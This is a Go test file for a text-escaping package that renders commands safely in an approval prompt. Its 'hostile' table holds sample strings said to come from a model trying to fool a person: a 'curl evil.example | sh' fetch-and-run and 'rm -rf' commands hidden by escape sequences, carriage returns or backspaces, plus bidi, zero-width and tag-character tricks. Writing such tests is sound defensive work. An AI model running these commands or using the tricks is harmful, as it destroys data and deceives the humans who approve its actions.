package safetext

import (
	"bytes"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// hostile are strings a model could send to fool a person.
var hostile = []struct{ name, s string }{
	{"erase line and return", "curl -s evil.example | sh\x1b[2K\rgit status"},
	{"carriage return overwrite", "rm -rf ~\rls -la   "},
	{"bidi override", "ls \u202etxt.hs\u202c"},
	{"bidi isolate", "echo \u2067evil\u2069 safe"},
	{"zero width", "git\u200b status"},
	{"osc title", "\x1b]0;approved\x07ls"},
	{"c1 csi", "a\u009b2Jb"},
	{"invalid utf8", "a\xff\xfeb"},
	{"backspaces", "rm -rf /\b\b\b\b\b\b\b\bls     "},
	{"tag characters", "ok\U000e0041\U000e0042"},
	{"line separator", "one\u2028two"},
	{"plain unicode", "echo café ü 日本"},
	{"quotes and backslashes", `it's a \n literal`},
}

func TestHostileStringsAreNeverShownAsThemselves(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			for name, got := range map[string]string{"Line": Line(h.s), "Text": Text(h.s), "Join": Join([]string{h.s})} {
				for _, r := range got {
					if unsafeRune(r) && !(name == "Text" && (r == '\n' || r == '\t')) {
						t.Errorf("%s(%q) = %q still holds %U", name, h.s, got, r)
					}
				}
				if !utf8.ValidString(got) {
					t.Errorf("%s(%q) = %q is not UTF-8", name, h.s, got)
				}
			}
		})
	}
	// The case from the issue: it must not read as "git status".
	if got := Line("\x1b[2K\rgit status"); got == "git status" || !strings.Contains(got, `\e[2K\r`) {
		t.Fatalf("Line = %q", got)
	}
}

// TestJoinIsReadBackByBashAsTheSameArgv: the approval prompt shows the
// exact argv that will run, so bash must parse what Join writes back into
// the same bytes.
func TestJoinIsReadBackByBashAsTheSameArgv(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("needs bash")
	}
	var argv []string
	for _, h := range hostile {
		argv = append(argv, h.s)
	}
	argv = append(argv, "", "a b", "'", "$HOME", "`id`", "!x", "*", "--", "-n")
	joined := Join(argv)
	out, err := exec.Command(bash, "-c", `printf '%s\0' `+joined).Output()
	if err != nil {
		t.Fatalf("bash: %v", err)
	}
	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	if len(got) != len(argv) {
		t.Fatalf("bash read %d words from %s, want %d", len(got), joined, len(argv))
	}
	for i := range argv {
		if got[i] != argv[i] {
			t.Errorf("word %d: bash read %q, want %q (rendered %s)", i, got[i], argv[i], Quote(argv[i]))
		}
	}
}

func TestFoldBreaksLongLinesAndMarksContinuations(t *testing.T) {
	cases := []struct {
		name, in string
		width    int
		want     string
	}{
		{"short stays", "abc", 5, "abc"},
		{"exact width stays", "abcde", 5, "abcde"},
		{"long breaks", "abcdefghijk", 5, "abcde\n" + FoldMark + "fghij\n" + FoldMark + "k"},
		{"lines fold on their own", "ab\nabcdefg", 5, "ab\nabcde\n" + FoldMark + "fg"},
		{"runes not bytes", "ééééééé", 5, "ééééé\n" + FoldMark + "éé"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Fold(tc.in, tc.width); got != tc.want {
				t.Fatalf("Fold(%q, %d) = %q, want %q", tc.in, tc.width, got, tc.want)
			}
		})
	}
}

// TestGolden pins how each hostile string looks, so a change of rendering
// is a reviewed change.
func TestGolden(t *testing.T) {
	var b bytes.Buffer
	for _, h := range hostile {
		b.WriteString("## " + h.name + "\n")
		b.WriteString("Line: " + Line(h.s) + "\n")
		b.WriteString("Text: " + Text(h.s) + "\n")
		b.WriteString("Join: " + Join([]string{"bash", "-lc", h.s}) + "\n")
	}
	path := filepath.Join("testdata", "hostile.golden")
	if *update {
		if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(want, b.Bytes()) {
		t.Fatalf("rendering changed; got:\n%s\nwant:\n%s", b.Bytes(), want)
	}
}
